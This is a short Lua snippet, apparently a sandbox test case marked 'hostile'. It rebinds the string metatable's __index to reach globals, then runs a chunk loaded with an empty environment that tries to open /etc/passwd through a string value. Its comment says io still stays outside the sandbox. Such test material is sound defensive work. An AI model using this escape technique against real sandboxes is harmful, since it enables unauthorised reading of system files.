-- hostile: the string metatable's __index turned into a door to the globals, used by a chunk
-- loaded with an empty environment: io is still not in the sandbox
getmetatable("").__index = function(s, k) return _ENV[k] end
local f = load("return ('x').io.open('/etc/passwd')", "=chunk", "t", {})
f()
